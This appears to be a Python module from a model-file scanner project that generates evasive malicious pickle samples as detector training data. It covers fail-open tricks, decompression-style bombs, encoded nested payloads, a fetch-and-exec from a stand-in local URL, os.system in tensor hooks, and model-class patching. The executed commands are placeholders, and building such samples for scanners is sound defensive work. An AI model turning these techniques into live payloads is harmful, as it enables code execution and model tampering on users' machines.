"""Payload builders for the evasions of threat sections G (fail-open / exhaustion), H (nested /
encoded payloads) and I (loader-level: tensor hooks, model patching): payloads that count on the
scanner giving up, not looking inside, or not knowing what the loader adds.
"""

from __future__ import annotations

import base64
import dataclasses
import pickle
import random
import struct
from collections.abc import Callable
from typing import Any

from fastscan.train.opwriter import Call, G, Ops
from fastscan.train.payload_kit import (
    Builder,
    Sample,
    add_globals,
    benign_value,
    embed,
    harmless_code,
    harmless_command,
    inner_pickle,
    make_sample,
    random_ops,
    random_protocol,
    register,
    rot13,
    simple_sample,
    system_call,
)

__all__ = ["G_BUILDERS", "H_BUILDERS", "I_BUILDERS"]

G_BUILDERS: dict[str, Builder] = {}
H_BUILDERS: dict[str, Builder] = {}
I_BUILDERS: dict[str, Builder] = {}


# -- G: fail-open / exhaustion -------------------------------------------------------------------
@register(G_BUILDERS, "G1")
def build_G1(rng: random.Random) -> Sample:
    """The loader raises only after the payload ran (call an int, underflow, missing module)."""
    ops = random_ops(rng, random_protocol(rng, 1))
    ops.value(system_call(rng, "g1"))
    variant = rng.randrange(4)
    if variant == 0:
        ops.integer(rng.randrange(100)).tuple_of(()).op(pickle.REDUCE)
    elif variant == 1:
        ops.op(pickle.POP * rng.randint(2, 5))
    elif variant == 2:
        ops.integer(7).integer(8).op(pickle.APPEND)
    else:
        ops.glob("fastscan_missing_module", "thing")
    return make_sample("G1", "structure", ops, ops.finish())


@register(G_BUILDERS, "G2")
def build_G2(rng: random.Random) -> Sample:
    """Truncated after the payload: the loader ran it, a strict parser reports only an error."""
    ops = random_ops(rng, random_protocol(rng))
    ops.op(pickle.MARK).value(system_call(rng, "g2")).value(benign_value(rng))
    data = ops.finish(stop=False, frame=False)
    cut = rng.choice([0, 1, rng.randint(2, 9)])
    return make_sample("G2", "structure", ops, data[: len(data) - cut] if cut else data)


def _g5(key: str, make: Callable[[Ops, random.Random], bool]) -> Builder:
    def build(rng: random.Random) -> Sample:
        ops = Ops(rng.choice([4, 5]), memo=False)
        before = make(ops, rng)  # True: the bomb precedes the payload
        if before:
            ops.value(system_call(rng, "g5"))
            return make_sample(key, "structure", ops, ops.finish(frame=False))
        body = bytes(ops.body)
        ops.body = bytearray()
        ops.value(system_call(rng, "g5")).op(pickle.POP)
        return make_sample(key, "structure", ops, ops.finish(stop=False, frame=False) + body)

    build.__name__ = f"build_{key.replace('.', '_')}"
    return build


def _memo_bomb(ops: Ops, rng: random.Random) -> bool:
    """Billion laughs: each level is a list of k references to the previous level."""
    ops.list_of(["fastscan"])
    slot = ops.put()
    for _ in range(rng.randint(20, 40)):
        ops.op(pickle.MARK)
        ops.get(slot)
        for _ in range(rng.randint(3, 9)):
            ops.op(pickle.DUP)
        ops.op(pickle.LIST)
        slot = ops.put()
    ops.op(pickle.POP)
    return True


def _huge_frame(ops: Ops, rng: random.Random) -> bool:
    ops.op(pickle.FRAME, struct.pack("<Q", rng.choice([2**63 - 1, 2**40, 2**32 + 7])))
    ops.raw(rng.randbytes(rng.randint(0, 32)))
    return False


def _huge_len(opcode: bytes) -> Callable[[Ops, random.Random], bool]:
    def make(ops: Ops, rng: random.Random) -> bool:
        ops.op(opcode, struct.pack("<Q", rng.choice([2**62, 2**48, 2**33])))
        ops.raw(rng.randbytes(rng.randint(0, 64)))
        return False

    return make


def _big_text(ops: Ops, rng: random.Random) -> bool:
    """An 8 MiB protocol-0 text operand in front of the payload."""
    size = 8 * 1024 * 1024 + rng.randint(0, 4096)
    ops.op(rng.choice([pickle.UNICODE, pickle.STRING]))
    text = b"A" * size
    ops.raw(text + b"\n" if ops.body[-1:] == pickle.UNICODE else b"'" + text + b"'\n")
    ops.op(pickle.POP)
    return True


G_BUILDERS["G5.memo_expansion"] = _g5("G5.memo_expansion", _memo_bomb)
G_BUILDERS["G5.huge_frame"] = _g5("G5.huge_frame", _huge_frame)
G_BUILDERS["G5.huge_binbytes8"] = _g5("G5.huge_binbytes8", _huge_len(pickle.BINBYTES8))
G_BUILDERS["G5.huge_bytearray8"] = _g5("G5.huge_bytearray8", _huge_len(pickle.BYTEARRAY8))
G_BUILDERS["G5.text_8mib"] = _g5("G5.text_8mib", _big_text)


def _storage(index: int, numel: int) -> Callable[[Ops], None]:
    """A persistent-id storage reference, as torch.save writes it."""

    def emit(ops: Ops) -> None:
        ops.tuple_of(("storage", G("torch", "FloatStorage"), str(index), "cpu", numel))
        ops.op(pickle.BINPERSID)

    return emit


def _tensor(rng: random.Random, index: int, hooks: Any = None) -> Call:
    rows, cols = rng.randint(1, 64), rng.randint(1, 64)
    hooks = Call(G("collections", "OrderedDict")) if hooks is None else hooks
    args = (_storage(index, rows * cols), 0, (rows, cols), (cols, 1), False, hooks)
    return Call(G("torch._utils", "_rebuild_tensor_v2"), args)


def _state_dict(rng: random.Random, n: int, special: dict[int, Any]) -> Callable[[Ops], None]:
    """An OrderedDict of tensors like a torch state dict; `special` replaces some values."""

    def emit(ops: Ops) -> None:
        ops.call(Call(G("collections", "OrderedDict")))
        ops.op(pickle.MARK)
        for i in range(n):
            ops.text(f"layers.{i // 2}.{'weight' if i % 2 == 0 else 'bias'}")
            ops.value(special.get(i, _tensor(rng, i)))
        ops.op(pickle.SETITEMS)

    return emit


@register(G_BUILDERS, "G6")
def build_G6(rng: random.Random) -> Sample:
    """One payload hidden among hundreds of benign torch globals and tensors."""
    n = rng.randint(40, 400)
    ops = Ops(2, stack_global=False)
    ops.value(_state_dict(rng, n, {rng.randrange(n): system_call(rng, "g6")}))
    return make_sample("G6", "process", ops, ops.finish())


# -- H: nested / encoded payloads ----------------------------------------------------------------
@register(H_BUILDERS, "H1")
def build_H1(rng: random.Random) -> Sample:
    """pickle.loads of an inner malicious pickle held in a bytes operand."""
    inner, nested = inner_pickle(rng, "h1")
    ops = random_ops(rng, random_protocol(rng, 3))
    kinds = [pickle.SHORT_BINBYTES, pickle.BINBYTES]
    kinds += [pickle.BINBYTES8] if ops.protocol >= 4 else []
    kinds += [pickle.BYTEARRAY8] if ops.protocol >= 5 else []
    kind = rng.choice([k for k in kinds if k != pickle.SHORT_BINBYTES or len(inner) < 256])
    loads = G(rng.choice(["pickle", "_pickle"]), "loads")
    ops.value(embed(rng, Call(loads, (lambda o: o.blob(inner, kind),))))
    return add_globals(make_sample("H1", "nested_loader", ops, ops.finish()), nested)


@register(H_BUILDERS, "H2")
def build_H2(rng: random.Random) -> Sample:
    """Base64 / hex encoded inner pickle or source, plus a decoder gadget."""
    inner, nested = inner_pickle(rng, "h2")
    variant = rng.randrange(3)
    if variant == 0:
        decoded = Call(G("base64", "b64decode"), (base64.b64encode(inner).decode(),))
        payload = Call(G(rng.choice(["pickle", "_pickle"]), "loads"), (decoded,))
    elif variant == 1:
        decoded = Call(G("binascii", "unhexlify"), (inner.hex(),))
        payload = Call(G("pickle", "loads"), (decoded,))
    else:
        code = base64.b64encode(harmless_code(rng, "h2").encode()).decode()
        payload = Call(G("builtins", "exec"), (Call(G("base64", "b64decode"), (code,)),))
        nested = ["os.system"]
    return dataclasses.replace(
        simple_sample("H2", "obfuscation", rng, payload, lo=2), hidden=tuple(nested)
    )


@register(H_BUILDERS, "H3")
def build_H3(rng: random.Random) -> Sample:
    """Multi-stage: fetch the second stage and exec it, or load another file as a model."""
    url = f"http://127.0.0.1:9/stage2-{rng.randrange(999)}.py"
    if rng.random() < 0.6:
        opener = rng.choice([G("urllib.request", "urlopen"), G("requests.api", "get")])
        attr = "read" if opener.module == "urllib.request" else "text"
        body: Any = Call(G("builtins", "getattr"), (Call(opener, (url,)), attr))
        body = Call(body, ()) if attr == "read" else body
        payload = Call(G("builtins", "exec"), (body,))
    else:
        payload = Call(G("torch", "load"), (rng.choice(["config.json", "tokenizer.bin"]),))
    return simple_sample("H3", "network", rng, payload, lo=2)


@register(H_BUILDERS, "H4")
def build_H4(rng: random.Random) -> Sample:
    """The command string is assembled at load time (join, hex, base64, rot13)."""
    cmd = harmless_command(rng, "h4")
    variant = rng.randrange(4)
    if variant == 0:
        built: Any = Call(G("builtins", "str.join"), ("", list(cmd)))
    elif variant == 1:
        built = Call(G("builtins", "bytes.fromhex"), (cmd.encode().hex(),))
    elif variant == 2:
        built = Call(G("base64", "b64decode"), (base64.b64encode(cmd.encode()).decode(),))
    else:
        built = Call(G("codecs", "decode"), (rot13(cmd), "rot13"))
    return simple_sample("H4", "obfuscation", rng, Call(G("os", "system"), (built,)), lo=4)


# -- I: loader-level -----------------------------------------------------------------------------
@register(I_BUILDERS, "I3")
def build_I3(rng: random.Random) -> Sample:
    """A tensor whose backward_hooks OrderedDict holds a dangerous callable (runs on backward)."""

    def hooks(ops: Ops) -> None:
        ops.call(Call(G("collections", "OrderedDict")))
        ops.integer(rng.randrange(10)).value(rng.choice([G("os", "system"), G("builtins", "exec")]))
        ops.op(pickle.SETITEM)

    n = rng.randint(2, 40)
    at = rng.randrange(n)
    ops = Ops(2, stack_global=False)
    ops.value(_state_dict(rng, n, {at: _tensor(rng, at, hooks)}))
    return make_sample("I3", "callback", ops, ops.finish())


@register(I_BUILDERS, "I4")
def build_I4(rng: random.Random) -> Sample:
    """Sleepy Pickle: the payload patches model classes instead of touching the host."""
    cls = G("torch.nn", rng.choice(["Linear", "Conv2d", "Module", "Embedding"]))
    if rng.random() < 0.5:
        sink = G(rng.choice(["torch.nn.functional", "builtins"]), rng.choice(["dropout", "print"]))
        patch = Call(G("builtins", "setattr"), (cls, rng.choice(["forward", "__call__"]), sink))
    else:
        hook = G("builtins", rng.choice(["print", "breakpoint"]))
        patch = Call(G("torch.nn.modules.module", "register_module_forward_hook"), (hook,))
    n = rng.randint(2, 30)
    ops = Ops(2, stack_global=False)
    ops.value(_state_dict(rng, n, {rng.randrange(n): patch}))
    return make_sample("I4", "tamper", ops, ops.finish())
